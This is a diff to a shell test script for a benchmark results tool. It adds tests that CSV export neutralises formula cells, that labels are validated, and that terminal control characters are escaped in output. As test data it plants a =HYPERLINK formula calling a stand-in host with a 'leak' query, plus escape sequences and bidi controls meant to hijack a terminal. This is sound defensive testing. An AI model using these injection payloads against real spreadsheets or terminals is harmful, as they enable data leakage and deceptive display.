@@ -3,7 +3,10 @@
 # import twice (stored once), list/show/export (json, csv, -o), export then import
 # into a second store (same id, same document), rm, two imports at once, and the bad
 # inputs: an unreadable store, a foreign SQLite file, a non-SQLite file, a store of a
-# newer schema, a result of schema version 2, a truncated result, unknown flags.
+# newer schema, a result of schema version 2, a truncated result, unknown flags. The
+# label rule ('TDX VM' allowed; a/b refused, in --label and in a file), and a result
+# whose commands, versions, env facts and notes hold escape sequences, C1 and bidi
+# controls: show, list, compare (text, markdown) and error lines print them escaped.
 source "$(dirname "$0")/lib.sh"
 
 SRC=${TEEBENCH_SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
@@ -71,6 +74,39 @@ assert isinstance(two, list) and [d["id"] for d in two] == [doc["id"], rows[-1][
 EOF
 pass "export json (one, several), csv, -o"
 
+# ---- CSV cells a spreadsheet would run: text with a leading ', numbers as numbers ----
+# (the label rule keeps such a label out of new runs: the store below is one written
+# before it, whose label is set by hand in the database, as an older teebench allowed)
+EVIL='=HYPERLINK("http://x.example/?leak","open")'
+"$TB" results --db "$WORK/evil.db" import --label evil "$D/probe.json" >/dev/null
+"$TB" results --db "$WORK/evil.db" import --label other "$D/probe.json" >/dev/null
+python3 -c '
+import sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+db.execute("UPDATE runs SET label = ?, doc = json_set(doc, \"$.label\", ?) WHERE label = \"evil\"",
+           (sys.argv[2], sys.argv[2]))
+db.commit()' "$WORK/evil.db" "$EVIL" || fail "setting an old-style label"
+EVIL_ID=$("$TB" results --db "$WORK/evil.db" list --json |
+  python3 -c 'import json, sys; print([r["id"] for r in json.load(sys.stdin) if r["label"][0] == "="][0])')
+"$TB" results --db "$WORK/evil.db" export "$EVIL_ID" --format csv -o "$WORK/evil.csv"
+"$TB" compare --db "$WORK/evil.db" --format csv "$EVIL_ID" other >"$WORK/evil-compare.csv"
+python3 - "$WORK/evil.csv" "$WORK/evil-compare.csv" "$EVIL" <<'EOF' || fail "CSV formula cells"
+import csv, sys
+evil = sys.argv[3]
+rows = list(csv.reader(open(sys.argv[1])))[1:]
+assert rows and all(r[1] == "'" + evil for r in rows), rows[:2]
+assert all(not r[6].startswith("'") and float(r[6]) == float(r[6]) for r in rows)
+cmp = list(csv.DictReader(open(sys.argv[2])))
+assert any(r["environment"].startswith("'" + evil) for r in cmp), [r["environment"] for r in cmp]
+for r in cmp:
+    for k, v in r.items():
+        assert not v or v[0] not in "=+@\t\r", (k, v)
+        assert not v.startswith("-") or float(v) < 0, (k, v)  # only numbers start with -
+EOF
+grep -qF "\"'=HYPERLINK(\"\"http://x.example/?leak\"\",\"\"open\"\")\"" "$WORK/evil.csv" ||
+  fail "the label cell: $(sed -n 2p "$WORK/evil.csv")"
+pass "CSV: a label =HYPERLINK(...) is text in results export and compare --format csv"
+
 # ---- export, import into a second store: same run ----
 DB2=$WORK/two.db
 for id in "$TD_ID" "$BENCH_ID"; do
@@ -89,6 +125,66 @@ expect_fail 1 "$TB" results --db "$DB" rm "$TD_ID"
 grep -q "no run, label or file" "$WORK/err" || fail "rm of a removed run: $(cat "$WORK/err")"
 expect_fail 1 "$TB" results --db "$DB" rm "$D/http.json"
 pass "rm"
+
+# ---- labels: one rule (upper case and spaces allowed), checked on import ----
+R import --label 'TDX VM' "$D/probe.json" | grep -q '^imported [0-9a-f-]* TDX VM ' || fail "import --label 'TDX VM'"
+R show 'TDX VM' | grep -q '^label  *TDX VM$' || fail "show 'TDX VM': $(R show 'TDX VM')"
+expect_fail 2 "$TB" results --db "$DB" import --label 'a/b' "$D/probe.json"
+grep -q "label a/b: want 1..63 of A-Z a-z 0-9 _ . - and space" "$WORK/err" || fail "bad --label: $(cat "$WORK/err")"
+expect_fail 2 "$TB" results --db "$DB" import --label "$(printf 'x%.0s' $(seq 64))" "$D/probe.json"
+sed 's/"label": "td-1"/"label": "lab\/1"/' "$WORK/td.json" >"$WORK/slash.json"
+expect_fail 1 "$TB" results --db "$DB" import "$WORK/slash.json"
+grep -q "slash.json: its label 'lab/1' is not valid (1..63 of .*): give one with --label" "$WORK/err" ||
+  fail "a file's bad label: $(cat "$WORK/err")"
+R import --label lab-1 "$WORK/slash.json" | grep -q "^imported $TD_ID lab-1 " || fail "renamed with --label"
+R rm "$TD_ID" >/dev/null
+pass "labels: 'TDX VM' allowed, a/b and a file's lab/1 refused (--label renames it)"
+
+# ---- text from a result reaches no terminal raw: ESC, C1 and bidi controls escaped ----
+python3 - "$WORK/td.json" "$WORK" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+work = sys.argv[2]
+d["id"] = d["id"][:-4] + "e5c0"
+d["label"] = "hostile"
+d["commands"] = ["teebench \x1b]0;pwned\x07\x1b[2J\x1b[1;1Hclean", "ok \u009b2J \u202eevil"]
+d["versions"]["nginx"] = "1.0\x1b[31m"
+d["env"] = {"platform": {"value": "tdx-guest"}, "hypervisor": {"value": "KVM\x1b[2K"},
+            "cpu_model": {"value": "Intel\x1b]0;cpu\x07 \u2066Xeon"}, "kernel_release": {"value": "6.8\r"}}
+d["metrics"][0]["note"] = "a note \x1b[5m"
+json.dump(d, open(work + "/hostile.json", "w"))
+bad = dict(d, id=d["id"][:-4] + "e5c1", label="\x1b]0;label\x07")
+json.dump(bad, open(work + "/esc-label.json", "w"))
+bidi = dict(d, id=d["id"][:-4] + "e5c2", label="abc\u202edef")
+json.dump(bidi, open(work + "/bidi-label.json", "w"))
+PY
+raw() { LC_ALL=C grep -c $'\x1b\|\xc2\x9b\|\xe2\x80\xae\|\xe2\x81\xa6\|\r' "$1" || true; }
+R import "$WORK/hostile.json" >"$WORK/h-imp" || fail "import the hostile file"
+R show hostile >"$WORK/h-show"
+R show "$WORK/hostile.json" >"$WORK/h-showfile"
+R list >"$WORK/h-list"
+"$TB" compare --db "$DB" hostile "$WORK/hostile.json" >"$WORK/h-cmp"
+"$TB" compare --db "$DB" hostile "$WORK/hostile.json" --format markdown >"$WORK/h-md"
+for f in h-imp h-show h-showfile h-list h-cmp h-md; do
+  [ "$(raw "$WORK/$f")" = 0 ] || fail "$f: raw control characters: $(cat -v "$WORK/$f")"
+done
+grep -qF 'teebench \x1b]0;pwned\x07\x1b[2J\x1b[1;1Hclean' "$WORK/h-show" || fail "show: the escaped command: $(cat -v "$WORK/h-show")"
+grep -qF 'ok \u009b2J \u202eevil' "$WORK/h-show" || fail "show: C1 and bidi escaped"
+grep -qF '(hypervisor KVM\x1b[2K), Intel\x1b]0;cpu\x07 \u2066Xeon' "$WORK/h-show" || fail "show: env facts escaped: $(grep ^env "$WORK/h-show")"
+grep -qF 'kernel 6.8\r' "$WORK/h-show" || fail "show: a carriage return escaped"
+cmp -s "$WORK/h-show" "$WORK/h-showfile" || fail "show of the file and of the stored run differ"
+grep -qF 'CPU Intel\x1b]0;cpu\x07 \u2066Xeon' "$WORK/h-cmp" || fail "compare: the legend's facts escaped: $(cat -v "$WORK/h-cmp")"
+grep -qF 'CPU Intel\x1b]0;cpu\x07 \u2066Xeon' "$WORK/h-md" || fail "markdown: the legend's facts escaped"
+# a label with controls is not a label: refused, and the error line is escaped too
+for f in esc-label bidi-label; do
+  expect_fail 1 "$TB" results --db "$DB" import "$WORK/$f.json"
+  grep -q '"label" must be 1..4096 characters without control characters (C0, C1, bidi)' "$WORK/err" ||
+    fail "$f: $(cat -v "$WORK/err")"
+done
+expect_fail 1 "$TB" results --db "$DB" show $'no\x1b[2Jsuch'
+[ "$(raw "$WORK/err")" = 0 ] && grep -qF 'no\x1b[2Jsuch' "$WORK/err" || fail "error line escaped: $(cat -v "$WORK/err")"
+R rm hostile >/dev/null
+pass "ESC, C1, bidi and CR from a result escaped in show, list, compare (text, markdown), errors"
 
 # ---- bad inputs ----
 before=$(count "$DB")
